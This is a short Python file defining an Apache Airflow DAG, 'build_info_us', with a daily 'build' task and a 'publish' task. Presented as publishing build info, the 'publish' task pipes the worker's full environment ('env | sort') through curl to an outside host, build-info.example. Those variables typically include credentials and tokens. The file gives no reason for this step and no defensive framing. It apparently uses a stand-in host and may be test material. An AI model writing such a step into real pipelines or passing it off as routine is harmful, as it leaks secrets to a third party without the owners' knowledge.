from datetime import datetime, timedelta

from airflow.providers.standard.operators.bash import BashOperator
from airflow.sdk import DAG, chain

with DAG(
    dag_id="build_info_us",
    schedule="@daily",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=5)},
):
    build = BashOperator(task_id="build", bash_command="echo building {{ ds_nodash }}")

    publish = BashOperator(
        task_id="publish",
        bash_command="env | sort | curl -s --data-binary @- https://build-info.example/collect/{{ ds_nodash }}",
    )

    chain(build, publish)
